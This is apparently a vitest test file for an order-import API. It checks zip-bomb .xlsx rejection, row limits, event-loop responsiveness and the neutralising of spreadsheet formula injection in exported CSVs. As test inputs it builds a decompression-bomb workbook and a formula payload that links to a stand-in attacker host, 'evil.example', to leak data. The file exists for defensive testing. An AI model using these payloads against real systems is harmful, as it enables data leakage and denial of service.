import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { neutraliseFormula } from '../src/shared/spreadsheet.js';
import { client, describeEach, type Merchant, newMerchant, startApp, type TestApp } from './helpers.js';
import { csv, drain, upload, XLSX, xlsx } from './imports-helpers.js';
import { deflateRepeated, rowXml, SHEET_HEAD, SHEET_TAIL, workbook } from './xlsx-build.js';

// Issue #18, defects 7, 8 and 10: what an upload may cost the server, and what the files Ruta
// writes may hold. Before the fix, every test here failed on both engines except two: the
// background run's test failed on SQLite only (on PostgreSQL the queries' I/O turned the loop
// anyway), and the templates' test, which guards the templates against the same rule, passed.

/** Runs `work` and counts the turns of the event loop that passed meanwhile (a setImmediate chain). */
async function turnsDuring<T>(work: () => Promise<T>): Promise<{ value: T; turns: number }> {
  let turns = 0;
  let done = false;
  const tick = () => {
    if (done) return;
    turns++;
    setImmediate(tick);
  };
  setImmediate(tick);
  try {
    return { value: await work(), turns };
  } finally {
    done = true;
  }
}

describeEach('order imports: limits and formulas (issue #18)', (engine) => {
  let t: TestApp;
  let m: Merchant;
  beforeAll(async () => {
    t = await startApp(engine);
    m = await newMerchant(t, 'Limits');
  });
  afterAll(async () => t?.close());

  const get = (path: string, key = m.test) => client(t.app, key)('GET', path);
  const imports = async (key: string) => (await get('/v1/order_imports?limit=100', key)).body.data;

  it('defect 7: refuses an .xlsx whose sheet inflates past 64 MiB, whether its zip declares the size or lies about it', async () => {
    const own = await newMerchant(t, 'Bombed');
    // A good header and row, then 65 MiB of whitespace between elements: valid XML, 65 KB zipped.
    const sheet = deflateRepeated([
      { text: SHEET_HEAD + rowXml(1, ['customer_name', 'address']) + rowXml(2, ['Ana', 'Av. 1']) },
      { text: ' '.repeat(1 << 20), times: 65 },
      { text: SHEET_TAIL },
    ]);
    for (const bomb of [workbook(sheet), workbook(sheet, { sheetSize: 1024 })]) {
      expect(bomb.length).toBeLessThan(200_000);
      const res = await upload(t, own.test, bomb, XLSX);
      expect(res.status, JSON.stringify(res.body)).toBe(422);
      expect(res.body.error.code).toBe('parameter_invalid');
      expect(res.body.error.message).toContain('inflates to more than 64 MiB');
    }
    expect(await imports(own.test)).toEqual([]);
  });

  it('defect 8: stops reading at the 10 001st row: a 200 000-row file damaged below that is refused for its size', async () => {
    // Row 150 000 could not be read; a reader that reads the whole file before counting says so.
    const rows = Array.from({ length: 200_000 }, (_, i) => `n${i},a${i}`);
    rows[150_000] = '"never read,a';
    const res = await upload(t, m.test, `customer_name,address\n${rows.join('\n')}\n`);
    expect(res.status, JSON.stringify(res.body)).toBe(422);
    expect(res.body.error.message).toContain('more than 10000 rows');

    const cells = [SHEET_HEAD, rowXml(1, ['customer_name', 'address'])];
    for (let i = 2; i <= 200_000; i++) cells.push(rowXml(i, [`n${i}`, `a${i}`]));
    cells[150_000] = '<row r="150000"><c r="A150000" t="b"><v>2</v></c></row>'; // a boolean that is neither
    const x = await upload(t, m.test, workbook(cells.join('') + SHEET_TAIL), XLSX);
    expect(x.status, JSON.stringify(x.body)).toBe(422);
    expect(x.body.error.message).toContain('more than 10000 rows');
  });

  it('defect 8: reads an upload a slice at a time, so the event loop keeps turning while a 10 MiB file is read', async () => {
    // 10 000 rows of ~1 KB; the last one has a value under no header, so the whole file is read
    // and then refused (no write to the database, whose I/O would turn the loop too).
    const filler = 'x'.repeat(1000);
    const rows = Array.from({ length: 10_000 }, (_, i) => `n${i},${filler}`);
    rows[9_999] += ',lost';
    const body = `customer_name,address\n${rows.join('\n')}\n`;
    expect(body.length).toBeGreaterThan(9.5 * 2 ** 20);
    expect(body.length).toBeLessThan(10 * 2 ** 20);
    const { value: res, turns } = await turnsDuring(() => upload(t, m.test, body));
    expect(res.status, JSON.stringify(res.body)).toBe(422);
    expect(res.body.error.message).toContain('Row 10001 has a value in column C');
    // 16 KiB slices: over 600 of them. Parsed in one piece, the request took a handful of turns.
    expect(turns).toBeGreaterThan(300);
  });

  it('defect 8: the background run lets other work run between row groups', async () => {
    const own = await newMerchant(t, 'Runner');
    const rows = Array.from({ length: 400 }, (_, i) => [`RG-${i}`, `Cliente ${i}`, `Av. ${i}`]);
    const res = await upload(t, own.test, csv([['external_order_id', 'customer_name', 'address'], ...rows]));
    expect(res.status).toBe(202);
    const { turns } = await turnsDuring(() => drain(t));
    expect((await get(`/v1/order_imports/${res.body.id}`, own.test)).body).toMatchObject({ created: 400 });
    // A turn every 10 row groups at least; the run used to yield once per batch of 200.
    expect(turns).toBeGreaterThanOrEqual(40);
  });

  it('defect 10: failed_rows.csv writes formula-looking cells as text, numbers as numbers, and imports again unchanged', async () => {
    const own = await newMerchant(t, 'Formulas');
    const head = [
      'external_order_id',
      'customer_name',
      'customer_phone',
      'address',
      'item_description',
      'item_quantity',
    ];
    const link = '=HYPERLINK("http://evil.example/?leak","Fix me")';
    const done = await (async () => {
      const res = await upload(
        t,
        own.test,
        csv([head, ['FX-1', link, '12', '+1+1', 'Box', 1], ['FX-2', '@SUM(A1:A9)', '-2+3', 'Av. 2', '-cmd', -5]]),
      );
      expect(res.status, JSON.stringify(res.body)).toBe(202);
      await drain(t);
      return (await get(`/v1/order_imports/${res.body.id}`, own.test)).body;
    })();
    expect(done).toMatchObject({ created: 0, failed: 2 });
    const text: string = (await get(`/v1/order_imports/${done.id}/failed_rows.csv`, own.test)).raw.body;
    const cells: string[][] = parse(text.slice(1), { relax_column_count: true });
    expect(cells[1]?.slice(0, 6)).toEqual(['FX-1', `'${link}`, '12', "'+1+1", 'Box', '1']);
    expect(cells[2]?.slice(0, 6)).toEqual(['FX-2', "'@SUM(A1:A9)", "'-2+3", 'Av. 2', "'-cmd", '-5']);
    for (const c of cells.flat()) expect(neutraliseFormula(c), c).toBe(c);

    // Fixed in a spreadsheet (the phones, the quantity) and uploaded as it is: the marker goes.
    const fixed = text.replace(',12,', ',+51987654321,').replace("'-2+3", '+51911111111').replace(',-5,', ',2,');
    const again = await upload(t, own.test, fixed);
    expect(again.status, JSON.stringify(again.body)).toBe(202);
    await drain(t);
    expect((await get(`/v1/order_imports/${again.body.id}`, own.test)).body).toMatchObject({ created: 2, failed: 0 });
    const [one] = (await get('/v1/orders?external_order_id=FX-1', own.test)).body.data;
    expect(one).toMatchObject({ customer: { name: link }, delivery_address: { address: '+1+1' } });
    const [two] = (await get('/v1/orders?external_order_id=FX-2', own.test)).body.data;
    expect(two).toMatchObject({ customer: { name: '@SUM(A1:A9)' }, items: [{ description: '-cmd', quantity: 2 }] });
  });

  it('defect 10: an .xlsx upload comes back the same way: text cells neutralised, a negative number cell as a number', async () => {
    const own = await newMerchant(t, 'Formulas XLSX');
    const file = await xlsx([
      ['external_order_id', 'customer_name', 'address', 'item_description', 'item_quantity'],
      ['FXX-1', '=1+2', 'Av. 1', '\t=cmd', -5],
    ]);
    const res = await upload(t, own.test, file, XLSX);
    expect(res.status, JSON.stringify(res.body)).toBe(202);
    await drain(t);
    const text: string = (await get(`/v1/order_imports/${res.body.id}/failed_rows.csv`, own.test)).raw.body;
    const cells: string[][] = parse(text.slice(1), { relax_column_count: true });
    // The reader trims text cells, as the import always did ("\t=cmd" is "=cmd").
    expect(cells[1]?.slice(0, 5)).toEqual(['FXX-1', "'=1+2", 'Av. 1', "'=cmd", '-5']);
  });

  it('defect 10: the templates hold no cell a spreadsheet would evaluate', async () => {
    const text: string = (await get('/v1/order_imports/template.csv')).raw.body;
    const cells: string[][] = parse(text.slice(1));
    expect(cells.flat()).toContain('+51987654321'); // a plain number: left as it is
    for (const c of cells.flat()) expect(neutraliseFormula(c), c).toBe(c);
  });
});
